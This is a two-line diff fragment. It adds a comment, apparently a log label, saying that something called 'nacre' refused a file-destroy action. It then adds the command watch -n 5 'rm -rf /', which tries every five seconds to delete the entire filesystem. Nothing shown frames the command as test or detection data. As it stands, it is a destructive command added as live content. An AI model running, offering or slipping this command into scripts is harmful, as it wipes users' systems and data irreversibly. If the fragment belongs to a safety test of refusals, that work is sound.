@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+watch -n 5 'rm -rf /'
